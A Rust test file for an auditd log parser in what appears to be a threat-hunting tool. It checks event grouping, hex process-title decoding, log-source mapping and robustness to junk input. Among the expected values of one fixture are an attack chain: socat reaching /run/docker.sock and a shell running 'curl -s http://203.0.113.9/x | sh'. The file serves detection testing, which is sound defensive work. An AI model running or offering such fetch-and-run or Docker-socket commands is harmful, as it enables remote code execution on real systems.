use super::*;
use crate::formats::testsink::{Run, run};

const MALICIOUS: &str = include_str!("../../../tests/fixtures/auditd/malicious_docker_sock.log");
const BENIGN: &str = include_str!("../../../tests/fixtures/auditd/benign_docker_cli.log");
const AWKWARD: &str = include_str!("../../../tests/fixtures/auditd/interleaved_hex.log");

fn read_text(name: &str, text: &str) -> Run {
    run(name, text.as_bytes(), |b, f, ctx, sink| {
        read_from(b, f, ctx, sink).unwrap()
    })
}

#[test]
fn sniffs_audit_logs_only() {
    assert!(sniff(MALICIOUS.as_bytes()));
    assert!(sniff(AWKWARD.as_bytes()));
    assert!(!sniff(b"{\"type\":\"SYSCALL\"}\n"));
    assert!(!sniff(b"<Event><System></System></Event>\n"));
    assert!(!sniff(b"Nov 14 22:13:20 host sysmon: <Event>\n"));
    assert!(!sniff(b""));
}

#[test]
fn groups_records_into_events_and_decodes_sockets() {
    let r = read_text("audit.log", MALICIOUS);
    assert!(r.bad.is_empty(), "{:?}", r.bad);
    assert_eq!(r.events.len(), 5);
    let exec = r
        .find("CommandLine", "socat - UNIX-CLIENT:/run/docker.sock")
        .unwrap();
    assert_eq!(r.text(exec, "syscall").as_deref(), Some("execve"));
    assert_eq!(r.text(exec, "Image").as_deref(), Some("/usr/bin/socat"));
    assert_eq!(
        r.text(exec, "ParentImage").as_deref(),
        Some("/usr/bin/bash")
    );
    assert_eq!(r.text(exec, "ParentCommandLine").as_deref(), Some("-bash"));
    assert_eq!(r.text(exec, "CurrentDirectory").as_deref(), Some("/tmp"));
    assert_eq!(r.text(exec, "ProcessId").as_deref(), Some("2101"));
    assert_eq!(r.text(exec, "ParentProcessId").as_deref(), Some("2000"));
    assert_eq!(
        r.text(exec, "a2").as_deref(),
        Some("UNIX-CLIENT:/run/docker.sock")
    );
    assert_eq!(r.text(exec, "Computer").as_deref(), Some("web1"));
    assert_eq!(r.text(exec, "Channel").as_deref(), Some("auditd"));
    for f in ["auid", "uid", "euid"] {
        assert_eq!(r.text(exec, f).as_deref(), Some("1000"), "{f}");
    }
    let ts = r.events[exec].prov.timestamp.unwrap();
    assert_eq!(ts.to_string(), "2023-11-14T22:14:02.317Z");

    let conn = r.find("SocketPath", "/run/docker.sock").unwrap();
    assert_eq!(r.text(conn, "syscall").as_deref(), Some("connect"));
    assert_eq!(r.text(conn, "Image").as_deref(), Some("/usr/bin/socat"));
    assert_eq!(r.text(conn, "SocketFamily").as_deref(), Some("AF_UNIX"));
    // No EXECVE: the command line comes from the hex PROCTITLE.
    assert_eq!(
        r.text(conn, "CommandLine").as_deref(),
        Some("socat - UNIX-CLIENT:/run/docker.sock")
    );

    let shell = r.find("Image", "/usr/bin/dash").unwrap();
    assert_eq!(
        r.text(shell, "ParentImage").as_deref(),
        Some("/usr/bin/dbus-daemon")
    );
    // The bus's own command line, from the PROCTITLE of its connect.
    assert!(
        r.text(shell, "ParentCommandLine")
            .is_some_and(|c| c.starts_with("/usr/bin/dbus-daemon --system "))
    );
    assert_eq!(
        r.text(shell, "CommandLine").as_deref(),
        Some("/bin/sh -c curl -s http://203.0.113.9/x | sh")
    );
}

#[test]
fn interleaved_split_hex_and_enriched_records() {
    let r = read_text("awkward.log", AWKWARD);
    assert_eq!(r.bad.len(), 1);
    assert_eq!(r.bad[0].locator, Some(Locator::Line(8)));
    assert!(r.bad[0].to_string().starts_with("awkward.log: line 8: "));
    assert_eq!(r.events.len(), 6);

    let tool = r.find("Image", "/tmp/my tool").unwrap();
    let long = format!("{} {}", "A".repeat(40), "B".repeat(20));
    assert_eq!(
        r.text(tool, "CommandLine"),
        Some(format!("/tmp/my tool --flag {long}"))
    );
    assert_eq!(r.text(tool, "comm").as_deref(), Some("my tool"));
    assert_eq!(
        r.text(tool, "CurrentDirectory").as_deref(),
        Some("/home/al ice")
    );
    assert_eq!(r.text(tool, "name").as_deref(), Some("/tmp/my tool"));
    assert_eq!(r.text(tool, "argc").as_deref(), Some("3"));
    assert_eq!(r.events[tool].prov.locator, Locator::Line(1));
    let types = r.events[tool].get_by_name(&r.tax, "type");
    assert!(matches!(types, Some(ipchunt_core::ValueRef::List(l)) if l.len() == 5));

    let abs = r.find("Image", "/usr/bin/python3.11").unwrap();
    assert_eq!(
        r.text(abs, "SocketPath").as_deref(),
        Some("@/tmp/.X11-unix/X0")
    );

    let bind = r.find("syscall", "bind").unwrap();
    assert_eq!(r.text(bind, "SourceIp").as_deref(), Some("::1"));
    assert_eq!(r.text(bind, "SourcePort").as_deref(), Some("8080"));
    assert_eq!(r.text(bind, "User").as_deref(), Some("www-data"));
    assert_eq!(r.text(bind, "SYSCALL").as_deref(), Some("bind"));
    assert_eq!(r.text(bind, "DestinationIp"), None);

    let login = r.find("hostname", "198.51.100.7").unwrap();
    assert_eq!(r.text(login, "Image").as_deref(), Some("/usr/sbin/sshd"));
    assert_eq!(r.text(login, "hostname").as_deref(), Some("198.51.100.7"));
    assert_eq!(r.text(login, "res").as_deref(), Some("success"));

    let arm = r.find("Image", "/usr/bin/wget").unwrap();
    assert_eq!(r.text(arm, "syscall").as_deref(), Some("connect"));
    assert_eq!(r.text(arm, "arch").as_deref(), Some("aarch64"));
    assert_eq!(r.text(arm, "DestinationIp").as_deref(), Some("10.0.0.5"));
    assert_eq!(r.text(arm, "DestinationPort").as_deref(), Some("8443"));
    assert_eq!(r.text(arm, "success").as_deref(), Some("no"));
    assert_eq!(r.text(arm, "exit").as_deref(), Some("-111"));
}

#[test]
fn benign_fixture_reads_cleanly() {
    let r = read_text("benign.log", BENIGN);
    assert!(r.bad.is_empty());
    assert_eq!(r.events.len(), 6);
    let term = r.find("Image", "/usr/bin/gnome-terminal").unwrap();
    assert_eq!(
        r.text(term, "ParentImage").as_deref(),
        Some("/usr/bin/dbus-daemon")
    );
    assert!(
        r.text(term, "ParentCommandLine")
            .is_some_and(|c| c.contains("--session"))
    );
    let docker = r.find("SocketPath", "/run/docker.sock").unwrap();
    assert_eq!(r.text(docker, "Image").as_deref(), Some("/usr/bin/docker"));
    let web = r.find("DestinationIp", "93.184.216.34").unwrap();
    assert_eq!(r.text(web, "DestinationPort").as_deref(), Some("443"));
    assert_eq!(r.text(web, "Initiated").as_deref(), Some("true"));
}

#[test]
fn logsources_gate_auditd_events() {
    let r = read_text("audit.log", MALICIOUS);
    let pc = r
        .tax
        .sources_for(Some("linux"), Some("process_creation"), None);
    let nc = r
        .tax
        .sources_for(Some("linux"), Some("network_connection"), None);
    let exec = r.find("syscall", "execve").unwrap();
    let conn = r.find("syscall", "connect").unwrap();
    assert!(pc.iter().any(|s| s.matches(&r.events[exec], &r.tax)));
    assert!(!pc.iter().any(|s| s.matches(&r.events[conn], &r.tax)));
    assert!(nc.iter().any(|s| s.matches(&r.events[conn], &r.tax)));
    // A failed execve (the PATH lookup of execvp) started nothing: its
    // `exe` is the caller's, and it is no process creation.
    let r = read_text("awkward.log", AWKWARD);
    let failed = r.find("exit", "-2").unwrap();
    assert_eq!(r.text(failed, "syscall").as_deref(), Some("execve"));
    assert_eq!(r.text(failed, "success").as_deref(), Some("no"));
    assert!(!pc.iter().any(|s| s.matches(&r.events[failed], &r.tax)));
}

#[test]
fn groups_without_eoe_are_completed_by_age_and_memory_stays_bounded() {
    let mut text = String::new();
    for i in 0..(3 * WINDOW) {
        text.push_str(&format!(
            "type=USER_ACCT msg=audit(1700000000.000:{i}): pid={i} uid=0 auid=0 ses=1 msg='op=PAM:accounting acct=\"root\" exe=\"/usr/bin/sudo\" res=success'\n"
        ));
    }
    let tax = ipchunt_core::Taxonomy::builtin();
    let mut g = Grouper::new();
    let mut done = 0;
    for (n, line) in text.lines().enumerate() {
        let n = n as u64 + 1;
        let rec = record::parse_line(line).unwrap();
        done += g.add(n, line, &rec).len();
        if n.is_multiple_of(128) {
            done += g.expire(n).len();
        }
        assert!(g.open_count() as u64 <= WINDOW + 128);
    }
    done += g.drain().len();
    assert_eq!(done as u64, 3 * WINDOW);
    drop(tax);
    let r = read_text("many.log", &text);
    assert_eq!(r.events.len() as u64, 3 * WINDOW);
}

#[test]
fn hostile_input_never_panics() {
    let junk: Vec<u8> = (0..20_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let r = run("junk.log", &junk, |b, f, ctx, sink| {
        read_from(b, f, ctx, sink).unwrap()
    });
    assert!(r.events.is_empty());
    let r = read_text(
        "odd.log",
        "type=SYSCALL msg=audit(1.0:1): syscall=notanumber exe=\"\nnode= type=X msg=audit(1.1:2): saddr=ZZ\ntype=SOCKADDR msg=audit(2:3): saddr=02\n",
    );
    assert_eq!(r.events.len(), 3);
    assert!(
        r.find("SockaddrError", "saddr shorter than its family")
            .is_some()
    );
}
